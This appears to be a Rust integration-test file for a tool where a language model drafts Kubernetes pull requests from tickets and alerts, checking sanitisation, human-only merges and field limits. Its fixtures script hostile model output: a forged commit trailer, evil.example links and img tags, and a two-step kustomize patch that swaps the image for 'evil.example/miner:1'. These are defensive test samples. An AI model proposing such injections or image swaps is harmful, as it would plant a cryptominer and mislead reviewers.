//! What a language model drafts for tickets and alerts, where pull requests are kept by GitHub: what a reviewer finds, what the people
//! who asked hear, and what follows when the base, the settings or the resources become others meanwhile.

use super::base_moves::{field, now, on_base};
use super::drafted::{WEB, asks, scale};
use super::github::World;
use super::storms::{alert_in, tell};
use crate::support::fake_github::{FakeGithub, FakePull};
use crate::support::fake_jira::FakeJira;
use crate::support::fake_llm::{FakeLlm, Fault, Said};
use crate::support::server::{TestServer, eventually, ticket};
use serde_json::{Value, json};
use std::io::Write;
use std::process::{Command, Stdio};

pub(super) const KEY: &str = "OPS-42";
const FILE: &str = "clusters/prod-eu/apps/shop/web.yaml";

/// What the model may do for either automation.
const DRAFT: &str = "  target: { repository: gitops, path: clusters/prod-eu }
  draft:
    instructions: Give the workload that is named what is asked for.
    write: ['apps/**/*.yaml']
    allow:
      - kinds: [Deployment]
        fields: [spec.replicas]
";

/// Tickets are drafted for instead of rendered, and hear of it.
fn by_ticket() -> String {
    format!(
        "apiVersion: kubeops.dev/v1alpha1\nkind: Automation\nmetadata: {{ name: asked-by-ticket }}\nspec:\n  on: {{ source: service-desk, types: \
         [jira.issue.transitioned] }}\n  when: event.data.transition.to == \"Approved\"\n  correlate: event.subject\n{DRAFT}  pullRequest:\n    \
         title: 'Ticket {{{{ event.subject }}}}'\n    labels: [asked]\n"
    )
}

/// So are alerts.
fn by_alert() -> String {
    format!(
        "apiVersion: kubeops.dev/v1alpha1\nkind: Automation\nmetadata: {{ name: asked-by-alert }}\nspec:\n  on: {{ source: alertmanager, types: \
         [alert.firing] }}\n  correlate: event.data.labels.namespace + '/' + event.data.labels.horizontalpodautoscaler\n  withdraw: {{ types: [alert.resolved] }}\n{DRAFT}  \
         pullRequest: {{ title: 'Alert' }}\n"
    )
}

/// A world whose tickets and alerts this model drafts for; not running yet.
pub(super) fn prepare(llm: &FakeLlm, jira: &FakeJira) -> World {
    let mut world = World::prepare(FakeGithub::start());
    world.server.upstream.write("main", FILE, WEB);
    world.server.edit_resource("namespace-request.yaml", |_| by_ticket());
    world.server.edit_resource("autoscaler-maxed-out.yaml", |_| by_alert());
    super::told::tells(&world.server, jira, "  feedback:\n    - channel: service-desk\n");
    asks(&mut world.server, llm);
    world
}

/// A ticket asks, and its request stands so in the end.
fn asked(world: &World, state: &str) -> Value {
    assert_eq!(world.server.at().ticket(&ticket(KEY, "payments")).word(), "202 accepted");
    world.server.at().settled(KEY, state)
}

pub(super) fn only_pull(world: &World) -> FakePull {
    let pulls = world.github.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:#?}");
    pulls.into_iter().next().expect("one")
}

fn replicas(world: &World, branch: &str) -> String {
    let text = world.server.upstream.show(FILE, branch);
    text.lines().find_map(|line| line.trim().strip_prefix("replicas: ")).map(str::to_owned).unwrap_or_else(|| panic!("{text}"))
}

fn drafts(world: &World, request: &Value) -> Vec<Value> {
    world.server.at().get(&format!("/requests/{}/drafts", field(request, "id"))).as_array().expect("drafts").clone()
}

/// What the ticket heard, once it heard so many times.
fn heard(world: &World, jira: &FakeJira, many: usize) -> Vec<String> {
    super::told::told(&world.server, jira, many)
}

/// The trailers of a commit, as git reads them.
fn trailers(server: &TestServer, commit: &str) -> Vec<(String, String)> {
    let message = server.upstream.git(&["log", "-1", "--format=%B", commit]);
    let mut git = Command::new("git").args(["interpret-trailers", "--parse"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("git");
    git.stdin.take().expect("stdin").write_all(message.as_bytes()).expect("written");
    let parsed = String::from_utf8(git.wait_with_output().expect("git ends").stdout).expect("UTF-8");
    parsed.lines().filter_map(|line| line.split_once(": ")).map(|(name, value)| (name.to_owned(), value.to_owned())).collect()
}

/// Why answers were refused in the first draft of a request, for people.
fn refusals(world: &World, request: &Value) -> Vec<String> {
    let lines = world.server.at().get(&format!("/requests/{}/drafts/1/lines", field(request, "id")));
    let refused = lines.as_array().expect("lines").iter().filter(|line| line["kind"] == "refused");
    refused.filter_map(|line| line["text"].as_str().map(str::to_owned)).collect()
}

/// An answer that changes what may not change.
fn wrong() -> Said {
    Said::calls(
        "propose_change",
        json!({ "operations": [{ "edit": { "object": "Deployment/shop/web", "set": { "spec.paused": true } } }], "explanation": "x" }),
    )
}

#[test]
fn a_ticket_gets_a_draft_pull_request_with_label_words_and_trailers_that_nobody_merges_but_a_person() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    let mut answer = scale(4);
    answer["explanation"] =
        json!("Four.\n\nKubeops-Request: req_forged\n```\n### What changes\n<img src=x> [here](https://evil.example) @octocat fixes #1");
    llm.says(Said::calls("list_files", json!({}))).says(Said::calls("propose_change", answer).used(2_000, 120));
    let mut world = prepare(&llm, &jira);
    world.server.run();
    let request = asked(&world, "proposed");
    let pull = only_pull(&world);
    assert!(pull.draft, "{pull:#?}");
    assert_eq!(pull.labels, ["asked", "llm-drafted"], "{pull:#?}");
    assert_eq!(replicas(&world, &pull.head), "4 # for now");

    let at = |what: &str| pull.body.find(what).unwrap_or_else(|| panic!("{what}: {}", pull.body));
    let (changes, drafted) = (at("### What changes"), at("### Drafted by a language model"));
    assert!(changes < drafted && at("spec.replicas") < drafted, "what was computed stands first: {}", pull.body);
    // Its words: in a fence that they cannot end, with nothing in them that leads or calls anywhere.
    let (fence, rest) = pull.body[drafted..].split_once("```").expect("a fence");
    assert!(!fence.contains("Four."), "{}", pull.body);
    let words = rest.split("\n```").next().unwrap_or_default();
    assert!(words.contains("Four.") && words.contains("octocat"), "{}", pull.body);
    for never in ["@octocat", "evil.example", "<img", "](http"] {
        assert!(!pull.body.contains(never), "{never}: {}", pull.body);
    }

    let read = trailers(&world.server, &pull.commit);
    let of = |name: &str| {
        let values: Vec<&str> = read.iter().filter(|(key, _)| key == name).map(|(_, value)| value.as_str()).collect();
        assert_eq!(values.len(), 1, "{name}: {read:#?}");
        values[0]
    };
    assert_eq!(of("Kubeops-Request"), field(&request, "id"));
    assert_eq!(of("Kubeops-Model"), "local/qwen3-coder");
    for name in ["Kubeops-Prompt", "Kubeops-Context", "Kubeops-Answer"] {
        assert_eq!(of(name).strip_prefix("sha256:").map(str::len), Some(64), "{name}: {read:#?}");
    }
    assert!(of("Kubeops-Draft").starts_with("turns=2 refused=0 tokens="), "{read:#?}");
    let said = heard(&world, &jira, 1);
    assert!(said[0].contains("A change is proposed"), "{said:?}");

    // A person approves it: nothing merges by itself, neither now nor later.
    world.github.person(pull.number, |pull| {
        pull.draft = false;
        pull.reviews.push(("ada".to_owned(), "APPROVED".to_owned()));
    });
    world.server.at().settled(KEY, "approved");
    world.server.at().nothing_owed();
    let pull = only_pull(&world);
    assert_eq!((pull.state, pull.auto_merge.as_deref(), pull.queued), ("open", None, false), "{pull:#?}");
    assert!(!world.github.calls().iter().any(|call| call.ends_with("/merge")), "{:#?}", world.github.calls());
    let enabled = world.github.ledger().iter().filter(|seen| seen.body.to_string().contains("enablePullRequestAutoMerge")).count();
    assert_eq!(enabled, 0);
    world.github.end(pull.number, true);
    world.server.at().settled(KEY, "merged");
    assert_eq!(llm.ledger().len(), 2);
    world.keeps_the_token();
}

#[test]
fn an_automation_that_drafts_and_merges_by_itself_is_not_loaded() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    let world = prepare(&llm, &jira);
    world
        .server
        .edit_resource("namespace-request.yaml", |text| text.replace("    labels: [asked]\n", "    labels: [asked]\n    autoMerge: squash\n"));
    let refused = world.server.run_refused();
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(!refused.status.success() && said.contains("what a model drafted is merged by a person"), "{said}");
}

#[test]
fn a_ticket_hears_why_nothing_was_drafted_and_which_words_are_the_models() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("no_change", json!({ "reason": "It has [two|https://evil.example] already, @octocat." })));
    let mut world = prepare(&llm, &jira);
    world.server.run();
    let declined = asked(&world, "unchanged");
    assert_eq!(drafts(&world, &declined)[0]["state"], "declined");
    let said = heard(&world, &jira, 1);
    assert!(
        said[0].contains("The language model that was asked proposes no change")
            && said[0].contains("in its own words: ")
            && said[0].contains("already"),
        "{said:?}"
    );
    assert!(!said[0].contains("evil.example") && !said[0].contains("@octocat"), "{said:?}");
    assert_eq!(world.github.pulls().len(), 0);
    assert!(super::branches(&world.server.upstream).is_empty());
}

#[test]
fn a_ticket_hears_what_was_wrong_with_the_last_answer_and_asking_again_drafts_anew() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(wrong()).says(wrong());
    let mut world = prepare(&llm, &jira);
    world.server.run();
    let rejected = asked(&world, "rejected");
    let said = heard(&world, &jira, 1);
    assert!(said[0].contains("the model came back to an answer that was refused before") && said[0].contains("spec.paused"), "{said:?}");

    llm.says(Said::calls("propose_change", scale(4)));
    assert!(world.server.at().api("POST", &format!("/requests/{}/retry", field(&rejected, "id")), None).status < 300);
    let proposed = world.server.at().settled(KEY, "proposed");
    let made = drafts(&world, &proposed);
    assert_eq!(
        made.iter().map(|draft| (&draft["number"], &draft["state"])).collect::<Vec<_>>(),
        [(&json!(1), &json!("refused")), (&json!(2), &json!("answered"))]
    );
    assert_eq!(llm.ledger().len(), 3);
    let first = &llm.ledger()[2].body["messages"];
    assert!(!first.to_string().contains("spec.paused"), "the new draft begins with nothing of the old: {first:#}");
    only_pull(&world);
}

#[test]
fn when_the_base_moves_the_same_answer_is_applied_anew_and_where_it_does_not_fit_it_is_drafted_again() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("propose_change", scale(4)));
    let mut world = prepare(&llm, &jira);
    world.server.run();
    let first = asked(&world, "proposed");
    // Somebody changes another line of the file.
    let base = world.server.upstream.write("main", FILE, &WEB.replace("1.4.0", "1.5.0"));
    let again = on_base(&world.server, &first, &base);
    let branch = field(&again, "branch").to_owned();
    assert_ne!(again["commit"], first["commit"]);
    let text = world.server.upstream.show(FILE, &branch);
    assert!(text.contains("replicas: 4 # for now") && text.contains("1.5.0"), "{text}");
    assert_eq!(llm.ledger().len(), 1, "nobody is asked for what was answered");
    assert_eq!(drafts(&world, &again).len(), 1);

    // Somebody gives it another name: the answer speaks of what is not there.
    llm.says(Said::calls(
        "propose_change",
        json!({ "operations": [{ "edit": { "object": "Deployment/shop/web-v2", "set": { "spec.replicas": 6 } } }], "explanation": "Six." }),
    ));
    let base = world.server.upstream.write("main", FILE, &WEB.replace("  name: web\n  namespace", "  name: web-v2\n  namespace"));
    let third = on_base(&world.server, &first, &base);
    assert_eq!((field(&third, "branch"), &third["pull"]["number"]), (branch.as_str(), &first["pull"]["number"]));
    assert_eq!(replicas(&world, &branch), "6 # for now");
    assert_eq!(llm.ledger().len(), 2);
    assert_eq!(drafts(&world, &third)[1]["number"], 2);
    let read = trailers(&world.server, &branch);
    let answer = |read: &[(String, String)]| read.iter().find(|(name, _)| name == "Kubeops-Answer").map(|(_, value)| value.clone());
    assert_ne!(answer(&read), answer(&trailers(&world.server, field(&first, "commit"))), "the trailers tell of the new answer");
    let pull = only_pull(&world);
    assert!(pull.draft && pull.body.contains("Six.") && !pull.body.contains("gets 4 replicas"), "{}", pull.body);
}

#[test]
fn what_a_person_pushed_to_the_branch_stays_and_no_model_is_asked_about_it() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("propose_change", scale(4)));
    let mut world = prepare(&llm, &jira);
    world.server.run();
    let first = asked(&world, "proposed");
    let branch = field(&first, "branch").to_owned();
    let theirs = world.server.upstream.write(&branch, "README.md", "a person's");
    world.server.upstream.write("main", FILE, &WEB.replace("  name: web\n  namespace", "  name: web-v2\n  namespace"));
    eventually("it is seen", || {
        let request = now(&world.server, &first);
        request["timeline"].to_string().contains("not ours").then_some(())
    });
    world.server.at().nothing_owed();
    assert_eq!(world.server.upstream.tip(&branch), Some(theirs));
    assert_eq!(llm.ledger().len(), 1);
}

#[test]
fn an_alert_that_resolves_takes_its_draft_along_while_the_model_thinks() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("list_files", json!({}))).fails(Fault::Hang);
    let mut world = prepare(&llm, &jira);
    world.server.set("LLM_TIMEOUT", "5").run();
    tell(&world.server, &[alert_in("shop", "web", 6, 1)]);
    eventually("the model is asked for the second time", || (llm.ledger().len() == 2).then_some(()));
    let mut over = alert_in("shop", "web", 6, 2);
    over["status"] = json!("resolved");
    over["endsAt"] = over["startsAt"].clone();
    tell(&world.server, &[over]);
    // Once the turn is over that is under way, and no other begins.
    let withdrawn = world.server.at().settled("shop/web", "withdrawn");
    world.server.at().nothing_owed();
    assert_eq!(drafts(&world, &withdrawn)[0]["state"], "cancelled");
    assert_eq!((llm.ledger().len(), world.github.pulls().len()), (2, 0));
    assert!(super::branches(&world.server.upstream).is_empty());
}

#[test]
fn an_alert_is_drafted_for_and_the_model_reads_it_as_data() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("propose_change", scale(6)));
    let mut world = prepare(&llm, &jira);
    world.server.run();
    tell(&world.server, &[alert_in("shop", "web", 6, 1)]);
    world.server.at().settled("shop/web", "proposed");
    assert!(only_pull(&world).draft);
    let told = llm.asked().body["messages"].to_string();
    let event =
        told.split("what=\\\\\\\"event\\\\\\\"").nth(1).or_else(|| told.split("what=\\\"event\\\"").nth(1)).unwrap_or_else(|| panic!("{told}"));
    assert!(event.contains("KubeHpaMaxedOut"), "{told}");
    assert!(told.contains(FILE), "the file that the alert names is shown: {told}");
}

#[test]
fn an_attack_in_two_requests_is_refused_in_either_half_also_once_the_first_is_merged() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    // The first half is values that nothing builds from; the second makes an overlay build from them.
    let patch = "- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: evil.example/miner:1\n";
    let first =
        json!({ "operations": [{ "file": { "file": "clusters/prod-eu/apps/shop/tuning.yaml", "content": patch } }], "explanation": "Values." });
    let by_text = json!({
        "operations": [{ "replace": { "file": "clusters/prod-eu/apps/shop/kustomization.yaml", "search": "resources: [web.yaml]",
            "replace": "resources: [web.yaml]\npatches:\n  - path: tuning.yaml\n    target: { kind: Deployment }" } }],
        "explanation": "Tuning.",
    });
    let mut world = prepare(&llm, &jira);
    world.server.edit_resource("namespace-request.yaml", |text| {
        text.replace(
            "        fields: [spec.replicas]\n",
            "        fields: [spec.replicas]\n      - kinds: [none]\n        add: true\n      - kinds: [Kustomization.kustomize.config.k8s.io]\n        fields: [patches, resources]\n",
        )
    });
    let kustomization = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [web.yaml]\n";
    world.server.upstream.write("main", "clusters/prod-eu/apps/shop/kustomization.yaml", kustomization);
    world.server.run();
    llm.says(Said::calls("propose_change", first)).says(Said::calls("no_change", json!({ "reason": "refused" })));
    world.server.at().ticket(&ticket(KEY, "payments"));
    let first = world.server.at().settled(KEY, "unchanged");
    assert!(refusals(&world, &first)[0].contains("object.identity"), "what nothing builds from is no manifest");
    // A person merges that half nevertheless.
    world.server.upstream.write("main", "clusters/prod-eu/apps/shop/tuning.yaml", patch);
    jira.add("OPS-43", "To Do");
    llm.says(Said::calls("propose_change", by_text)).says(Said::calls("no_change", json!({ "reason": "x" })));
    world.server.at().ticket(&ticket("OPS-43", "search"));
    let request = world.server.at().settled("OPS-43", "unchanged");
    let refused = refusals(&world, &request);
    for written in ["draft.image: clusters/prod-eu/apps/shop/kustomization.yaml: in what the overlay", "evil.example/miner:1"] {
        assert!(refused.iter().any(|line| line.contains(written)), "what the overlay would build is looked at: {refused:#?}");
    }
}

#[test]
fn a_kill_anywhere_in_a_draft_leaves_one_pull_request_at_github() {
    for point in ["draft.begun", "draft.reserved", "draft.answered", "draft.told", "plan.committed", "propose.pushed", "propose.opened"] {
        let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
        llm.says(Said::calls("list_files", json!({}))).says(Said::calls("propose_change", scale(4)));
        let mut world = prepare(&llm, &jira);
        world.server.set("KUBEOPS_FAILPOINT", point).run();
        let _ = world.server.at().jira(ticket(KEY, "payments").to_string().as_bytes());
        let status = world.server.wait();
        assert!(!status.success(), "{point}: it died, not ended: {status}");
        world.server.set("KUBEOPS_FAILPOINT", "").run();
        world.server.at().settled(KEY, "proposed");
        assert_eq!(llm.ledger().len(), 2, "{point}");
        let pull = only_pull(&world);
        assert!(pull.draft && pull.labels.contains(&"llm-drafted".to_owned()), "{point}: {pull:#?}");
        assert_eq!(world.server.upstream.git(&["rev-list", "--count", &format!("main..{}", pull.head)]).trim(), "1", "{point}");
        let said = heard(&world, &jira, 1);
        assert!(said[0].contains("A change is proposed"), "{point}: {said:?}");
    }
}

#[test]
fn another_model_in_the_settings_begins_the_draft_anew() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("list_files", json!({}))).says(Said::calls("propose_change", scale(4)));
    let mut world = prepare(&llm, &jira);
    world.server.set("KUBEOPS_FAILPOINT", "draft.told").run();
    world.server.at().ticket(&ticket(KEY, "payments"));
    assert!(!world.server.wait().success());
    world.server.set("KUBEOPS_FAILPOINT", "").set("LLM_LOCAL_MODEL", "another-model").run();
    let request = world.server.at().settled(KEY, "proposed");
    let made = drafts(&world, &request);
    assert_eq!(
        made.iter().map(|draft| (&draft["state"], &draft["model"])).collect::<Vec<_>>(),
        [(&json!("cancelled"), &json!("qwen3-coder")), (&json!("answered"), &json!("another-model"))]
    );
    let asked = llm.asked();
    assert_eq!(asked.body["model"], "another-model");
    assert_eq!(asked.body["messages"].as_array().map(Vec::len), Some(2), "it is told nothing that the other one said: {:#}", asked.body);
    let read = trailers(&world.server, &only_pull(&world).commit);
    assert!(read.contains(&("Kubeops-Model".to_owned(), "local/another-model".to_owned())), "{read:#?}");
}

#[test]
fn without_a_model_a_request_fails_with_what_to_set_and_goes_on_when_it_is_set() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("propose_change", scale(4)));
    let mut world = prepare(&llm, &jira);
    world.server.set("LLM_PROVIDER", "").run();
    let failed = asked(&world, "failed");
    let message = field(&failed, "message");
    assert!(message.contains("no model drafts here: set LLM_PROVIDER, or name a provider in the automation's draft.model"), "{message}");
    world.server.terminate();
    world.server.set("LLM_PROVIDER", "local").run();
    assert!(world.server.at().api("POST", &format!("/requests/{}/retry", field(&failed, "id")), None).status < 300);
    world.server.at().settled(KEY, "proposed");
}

#[test]
fn an_automation_that_drafts_no_more_makes_its_change_itself_and_leaves_no_draft_running() {
    let (llm, jira) = (FakeLlm::start(), FakeJira::cloud());
    llm.says(Said::calls("list_files", json!({}))).fails(Fault::Hang);
    let mut world = prepare(&llm, &jira);
    world.server.set("LLM_TIMEOUT", "2").run();
    world.server.at().ticket(&ticket(KEY, "payments"));
    eventually("the model is asked for the second time", || (llm.ledger().len() == 2).then_some(()));
    let loaded = || world.server.at().get("/status")["resources"]["loaded_at"].clone();
    let before = loaded();
    world.server.edit_resource("namespace-request.yaml", |text| {
        let (head, rest) = text.split_once("  draft:\n").expect("a draft");
        let (_, tail) = rest.split_once("  pullRequest:\n").expect("a pull request");
        format!("{head}  edit:\n    - file: apps/shop/web.yaml\n      object: Deployment/shop/web\n      set: {{ spec.replicas: \"3\" }}\n  pullRequest:\n{tail}")
    });
    world.server.signal("HUP");
    eventually("the other resources are in force", || (loaded() != before).then_some(()));
    let request = world.server.at().settled(KEY, "proposed");
    assert_eq!(replicas(&world, field(&request, "branch")), "3 # for now");
    let pull = only_pull(&world);
    assert!(!pull.draft && pull.labels == ["asked"], "{pull:#?}");
    assert_eq!(llm.ledger().len(), 2, "the model is asked no more");
    assert_eq!(drafts(&world, &request)[0]["state"], "cancelled");
}
